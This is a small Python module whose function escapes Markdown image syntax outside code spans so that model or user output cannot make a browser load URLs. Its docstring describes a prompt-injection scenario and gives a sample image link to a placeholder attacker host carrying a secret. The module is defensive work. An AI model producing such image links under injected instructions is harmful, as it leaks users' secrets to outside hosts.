"""Markdown from models and users that makes the browser fetch nothing by itself.

A model steered by a prompt injection can answer ``![](https://attacker/?q=<secret>)``: shown
as Markdown, the browser would load that address as an image at once, with the secret in it.
:func:`inert_markdown` turns image syntax outside code into text (``!\\[``), so only a link an
analyst clicks is ever followed. HTML is never rendered at all (pages pass no
``unsafe_allow_html``). Code blocks and inline code are left exactly as they are: images are
not rendered there, and code such as Rust's ``vec![1, 2]`` must read as written.
"""

from __future__ import annotations

import re

# fenced blocks (``` or ~~~ up to the matching fence or the end: a streamed answer may be cut
# inside one) and inline code spans
_CODE = re.compile(r"(^|\n)(```|~~~)[^\n]*\n.*?(?:\n\2[^\n]*(?=\n|$)|$)|`[^`\n]*`", re.DOTALL)


def inert_markdown(text: str) -> str:
    """``text`` with every Markdown image outside code shown as text instead of loaded."""
    out: list[str] = []
    last = 0
    for match in _CODE.finditer(text):
        out.append(text[last : match.start()].replace("![", "!\\["))
        out.append(match.group(0))
        last = match.end()
    out.append(text[last:].replace("![", "!\\["))
    return "".join(out)
